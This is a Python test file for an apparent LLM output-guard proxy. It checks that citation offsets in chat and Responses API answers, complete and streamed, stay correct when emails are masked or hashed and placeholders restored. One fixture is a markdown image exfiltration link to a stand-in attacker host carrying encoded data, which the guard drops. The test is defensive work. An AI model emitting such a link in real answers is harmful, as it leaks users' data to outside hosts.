"""Citations keep pointing at the words the model cited once output rules redact the
answer: chat ``message.annotations`` / ``delta.annotations`` and Responses
``annotations`` (parts, ``annotation.added`` events, done events), complete and
streamed, masked (shorter), hashed (longer) and dropped, a citation before, after,
over, inside and across a redacted span; and after placeholders are restored too."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import replace
from typing import Any, Literal

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.pipeline.cited_answers import (
    MODEL,
    Applied,
    CitedText,
    assert_citations_cover,
    chat_annotations,
    chat_chunk,
    chat_client_view,
    chat_payloads,
    relayed,
    relayed_whole,
    responses_annotations,
    responses_client_view,
    responses_payloads,
    span,
    sse,
    through_hook,
)

from bastion.config.schema import DetectorsConfig
from bastion.crypto.keyring import Keyring
from bastion.detect.catalog import build_answer_detectors, build_scanner
from bastion.detect.inspector import DetectorInspector
from bastion.model import Endpoint
from bastion.model.controls import OutputAction, OutputMode, OutputPlan
from bastion.pipeline.output_guard import OutputGuard, OutputGuardHook
from bastion.pipeline.response import finish_json_body

KEYRING = Keyring.generate()
_CONFIG = DetectorsConfig.model_validate({"output": {"link_allow_domains": ["docs.example.com"]}})
_SCANNER = build_scanner(_CONFIG)
INSPECTOR = DetectorInspector(_SCANNER, KEYRING, build_answer_detectors(_CONFIG, _SCANNER))

EMAIL = "ann.lee@contoso-example.com"
SHORT = "jo@contoso.com"  # shorter than its hashed stand-in: the text grows
IMAGE = "![chart](https://evil.example.net/pixel.png?q=c2VjcmV0)"  # dropped: the text shrinks
TEXT = (
    f"Write to {EMAIL} (see the guide). {IMAGE} The policy applies to every team, "
    f"says {SHORT} in the handbook."
)


def at(words: str, shift: int = 0, length: int | None = None) -> tuple[int, int]:
    return span(TEXT, words, shift, length)


# (model offsets, the words the client must read there; {email}/{short}: their stand-ins)
CITED: list[tuple[tuple[int, int], str]] = [
    (at("Write"), "Write"),  # before any redaction
    (at("the guide"), "the guide"),  # after a masked value
    (at("policy"), "policy"),  # after a masked and a dropped one
    (at("handbook"), "handbook"),  # after all three
    (at(EMAIL), "{email}"),  # the masked value itself
    (at(EMAIL, 3, 4), "{email}"),  # starting and ending inside it
    (at(f"to {EMAIL} (see"), "to {email} (see"),  # across it
    (at(f"{EMAIL} (see the guide", 5), "{email} (see the guide"),  # from inside it
    (at(f"Write to {EMAIL}", 0, 12), "Write to {email}"),  # ending inside it
    (at(f"says {SHORT} in"), "says {short} in"),  # across a value that grows
    (at(SHORT, 2, 3), "{short}"),  # inside it
    (at(IMAGE), ""),  # the dropped value: empty, where it stood
    (at(f"guide). {IMAGE} The"), "guide).  The"),  # across it
    (at(f"the guide). {IMAGE}", 0, 20), "the guide). "),  # ending inside it
    (at(f"{IMAGE} The policy", 9), " The policy"),  # from inside it
]
ANSWER = CitedText(TEXT, CITED)
DROPPED = CITED.index((at(IMAGE), ""))


def addresses(transform: Literal["mask", "hash"]) -> OutputPlan:
    """Addresses replaced by ``transform``, images carrying data dropped."""
    rules = (
        ("pii.email", OutputAction("redact", "out.pii", transform)),
        ("output.exfil_link", OutputAction("redact", "out.links", "drop")),
    )
    return OutputPlan(rules, "window", 64)


MASK = addresses("mask")
HASH = addresses("hash")  # a longer stand-in than SHORT, a shorter one than EMAIL


def expected_text(plan: OutputPlan) -> tuple[str, dict[str, str]]:
    """The redacted text, and what stands for each address in it."""
    if plan is MASK:
        names = {"email": "[EMAIL]", "short": "[EMAIL]"}
    else:
        guard = OutputGuard(plan, INSPECTOR, KEYRING)
        names = {
            name: guard.review((0, 0), value, guard.inspect(value))
            for name, value in (("email", EMAIL), ("short", SHORT))
        }
        assert len(names["short"]) > len(SHORT) and len(names["email"]) < len(EMAIL)
    text = TEXT.replace(EMAIL, names["email"]).replace(SHORT, names["short"])
    return text.replace(IMAGE, ""), names


def assert_cited(
    text: str, citations: Sequence[Mapping[str, Any]], plan: OutputPlan = MASK
) -> None:
    redacted, names = expected_text(plan)
    assert text == redacted
    assert_citations_cover(text, citations, [words.format(**names) for _, words in CITED])
    dropped = next(c for c in citations if c["url"].endswith(f"/{DROPPED}"))
    assert dropped["start_index"] == redacted.index(" The policy")  # where the link stood


# -- complete answers ----------------------------------------------------------------


def chat_answer() -> dict[str, Any]:
    message = {
        "role": "assistant",
        "content": TEXT,
        "annotations": chat_annotations(ANSWER),
    }
    return {
        "object": "chat.completion",
        "model": MODEL,
        "choices": [{"index": 0, "message": message}],
    }


def responses_answer() -> dict[str, Any]:
    part = {"type": "output_text", "text": TEXT, "annotations": responses_annotations(ANSWER)}
    item = {"id": "msg_1", "type": "message", "role": "assistant", "content": [part]}
    return {"id": "resp_1", "object": "response", "model": MODEL, "output": [item]}


@pytest.mark.parametrize("plan", [MASK, HASH], ids=["mask", "hash"])
def test_a_complete_chat_answer_moves_its_citations_with_the_redactions(plan: OutputPlan) -> None:
    answer = chat_answer()
    assert OutputGuard(plan, INSPECTOR, KEYRING).apply_json(answer) is True
    message = answer["choices"][0]["message"]
    assert_cited(message["content"], [a["url_citation"] for a in message["annotations"]], plan)


@pytest.mark.parametrize("plan", [MASK, HASH], ids=["mask", "hash"])
def test_a_complete_responses_answer_moves_its_citations_with_the_redactions(
    plan: OutputPlan,
) -> None:
    answer = responses_answer()
    assert OutputGuard(plan, INSPECTOR, KEYRING).apply_json(answer) is True
    part = answer["output"][0]["content"][0]
    assert_cited(part["text"], part["annotations"], plan)


# -- streams ---------------------------------------------------------------------------


def assert_responses_cited(payloads: Sequence[dict[str, Any]], plan: OutputPlan = MASK) -> None:
    """The text from the deltas with the citations from the annotation events, and the
    part each done event repeats, all cover the cited words."""
    view = responses_client_view(payloads)
    assert_cited(view.text, view.citations, plan)
    assert len(view.repeated) == 3
    for part in view.repeated:
        assert_cited(part["text"], part["annotations"], plan)


def guarded(payloads: Sequence[dict[str, Any] | str], plan: OutputPlan) -> list[Any]:
    return through_hook(OutputGuardHook(OutputGuard(plan, INSPECTOR, KEYRING)), payloads)


def with_mode(plan: OutputPlan, mode: OutputMode) -> OutputPlan:
    return OutputPlan(plan.rules, mode, plan.window_chars)


STREAMS = [
    pytest.param(size, where, id=f"{size}-{where}")
    for size in (1, 5, 200)
    for where in ("end", "after", "before")
]


@pytest.mark.parametrize("mode", ["window", "buffer"])
@pytest.mark.parametrize(("size", "where"), STREAMS)
def test_chat_stream_citations_move_with_the_redactions(
    size: int, where: str, mode: OutputMode
) -> None:
    out = guarded(chat_payloads(ANSWER, size, where), with_mode(MASK, mode))
    assert_cited(*chat_client_view(out))


@pytest.mark.parametrize("mode", ["window", "buffer"])
@pytest.mark.parametrize(("size", "where"), STREAMS)
def test_responses_stream_citations_move_with_the_redactions(
    size: int, where: str, mode: OutputMode
) -> None:
    payloads = responses_payloads(ANSWER, size, where)
    out = guarded(payloads, with_mode(MASK, mode))
    assert_responses_cited(out)
    kinds = [p["type"] for p in out if p["type"] != "response.output_text.delta"]
    assert kinds == [p["type"] for p in payloads if p["type"] != "response.output_text.delta"]


def test_hashed_values_move_streamed_citations_too() -> None:
    assert_cited(*chat_client_view(guarded(chat_payloads(ANSWER, 3, "after"), HASH)), HASH)
    assert_responses_cited(guarded(responses_payloads(ANSWER, 3, "before"), HASH), HASH)


@settings(max_examples=40, deadline=None)
@given(
    st.lists(st.integers(min_value=1, max_value=23), min_size=1, max_size=30),
    st.lists(st.integers(min_value=0, max_value=len(TEXT)), min_size=len(CITED),
             max_size=len(CITED)),
)  # fmt: skip
def test_any_chunking_and_placement_gives_the_citations_a_complete_answer_would(
    sizes: list[int], sent_at: list[int]
) -> None:
    """Each citation goes out with the chunk holding the character it was drawn at."""
    chunks: list[str] = []
    start = 0
    while start < len(TEXT):
        size = sizes[len(chunks) % len(sizes)]
        chunks.append(TEXT[start : start + size])
        start += size
    ends = [sum(map(len, chunks[: i + 1])) for i in range(len(chunks))]
    citing: dict[int, list[int]] = {}
    for number, character in enumerate(sent_at):
        position = next(i for i, end in enumerate(ends) if end >= character)
        citing.setdefault(position, []).append(number)
    payloads: list[dict[str, Any] | str] = []
    for position, piece in enumerate(chunks):
        delta: dict[str, Any] = {"content": piece}
        if position in citing:
            delta["annotations"] = chat_annotations(ANSWER, citing[position])
        payloads.append(chat_chunk(delta))
    text, streamed = chat_client_view(guarded([*payloads, chat_chunk({}, "stop")], MASK))
    assert_cited(text, streamed)
    whole = chat_answer()
    OutputGuard(MASK, INSPECTOR, KEYRING).apply_json(whole)
    message = whole["choices"][0]["message"]
    assert text == message["content"]
    assert sorted(streamed, key=lambda c: c["url"]) == sorted(
        (a["url_citation"] for a in message["annotations"]), key=lambda c: c["url"]
    )


async def test_a_clean_stream_keeps_its_citation_events_byte_for_byte() -> None:
    """Nothing redacted: nothing moved, every event as it came."""
    clean = TEXT
    for value in (EMAIL, SHORT, IMAGE):
        clean = clean.replace(value, "x" * len(value))
    raw = sse(chat_payloads(replace(ANSWER, text=clean), 7, "after"))
    hook = OutputGuardHook(OutputGuard(MASK, INSPECTOR, KEYRING))
    assert await relayed_whole(raw, hook, "chat") == raw


# -- redaction, then restoration: the hooks and steps an answer really goes through -----

PLACEHOLDER = "<PERSON_1a2b3c4d>"
ORIGINAL = "Dana Whitfield"
RESTORED_TEXT = f"Ask {PLACEHOLDER} or {EMAIL} about the guide, then {IMAGE} read it."
RESTORED_CITED = [
    ("Ask", "Ask"),
    (PLACEHOLDER, ORIGINAL),
    (f"{PLACEHOLDER} or {EMAIL}", f"{ORIGINAL} or [EMAIL]"),
    ("the guide", "the guide"),
    ("read it", "read it"),
]
RESTORED = CitedText(RESTORED_TEXT, [(span(RESTORED_TEXT, w), then) for w, then in RESTORED_CITED])
APPLIED = Applied({PLACEHOLDER: ORIGINAL})


def assert_restored_cited(text: str, citations: Sequence[Mapping[str, Any]]) -> None:
    assert text == f"Ask {ORIGINAL} or [EMAIL] about the guide, then  read it."
    assert_citations_cover(text, citations, [words for _, words in RESTORED_CITED])


def call_guard() -> OutputGuard:
    return OutputGuard(MASK, INSPECTOR, KEYRING, frozenset({PLACEHOLDER}))


def test_a_complete_answer_moves_its_citations_through_redaction_and_restoration() -> None:
    message = {
        "role": "assistant",
        "content": RESTORED_TEXT,
        "annotations": chat_annotations(RESTORED),
    }
    chat = {
        "object": "chat.completion",
        "model": MODEL,
        "choices": [{"index": 0, "message": message}],
    }
    body = orjson.loads(finish_json_body(b"{}", chat, MODEL, APPLIED, call_guard()))
    message = body["choices"][0]["message"]
    assert_restored_cited(message["content"], [a["url_citation"] for a in message["annotations"]])
    part = {
        "type": "output_text",
        "text": RESTORED_TEXT,
        "annotations": responses_annotations(RESTORED),
    }
    item = {"id": "msg_1", "type": "message", "role": "assistant", "content": [part]}
    responses = {"id": "resp_1", "object": "response", "model": MODEL, "output": [item]}
    body = orjson.loads(finish_json_body(b"{}", responses, MODEL, APPLIED, call_guard()))
    part = body["output"][0]["content"][0]
    assert_restored_cited(part["text"], part["annotations"])


@pytest.mark.parametrize("size", [1, 4, 200])
async def test_a_relayed_chat_stream_moves_citations_through_redaction_and_restoration(
    size: int,
) -> None:
    chunks = [RESTORED_TEXT[i : i + size] for i in range(0, len(RESTORED_TEXT), size)]
    payloads: list[dict[str, Any] | str] = [chat_chunk({"content": c}) for c in chunks]
    payloads += [chat_chunk({"annotations": chat_annotations(RESTORED)}), chat_chunk({}, "stop")]
    out = await relayed(sse([*payloads, "[DONE]"]), Endpoint.CHAT, APPLIED, call_guard())
    assert_restored_cited(*chat_client_view(out))


@pytest.mark.parametrize("size", [1, 4, 200])
async def test_a_relayed_responses_stream_moves_citations_through_redaction_and_restoration(
    size: int,
) -> None:
    place = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
    notes = responses_annotations(RESTORED)
    part = {"type": "output_text", "text": RESTORED_TEXT, "annotations": notes}
    item = {"id": "msg_1", "type": "message", "role": "assistant", "content": [part]}
    events: list[tuple[str, dict[str, Any]]] = [
        ("response.output_text.annotation.added", {**place, "annotation_index": n, "annotation": a})
        for n, a in enumerate(notes)
    ]  # before the text they cite
    events += [
        ("response.output_text.delta", {**place, "delta": RESTORED_TEXT[i : i + size]})
        for i in range(0, len(RESTORED_TEXT), size)
    ]
    events += [
        ("response.content_part.done", {**place, "part": part}),
        ("response.completed", {"response": {"id": "resp_1", "object": "response",
                                             "model": MODEL, "output": [item]}}),
    ]  # fmt: skip
    payloads = [{"type": k, "sequence_number": n, **b} for n, (k, b) in enumerate(events)]
    out = await relayed(sse(payloads), Endpoint.RESPONSES, APPLIED, call_guard())
    text = "".join(p["delta"] for p in out if p["type"] == "response.output_text.delta")
    added = [p["annotation"] for p in out if p["type"] == "response.output_text.annotation.added"]
    assert_restored_cited(text, added)
    for payload in out:
        if payload["type"] == "response.content_part.done":
            assert_restored_cited(payload["part"]["text"], payload["part"]["annotations"])
        elif payload["type"] == "response.completed":
            done = payload["response"]["output"][0]["content"][0]
            assert_restored_cited(done["text"], done["annotations"])
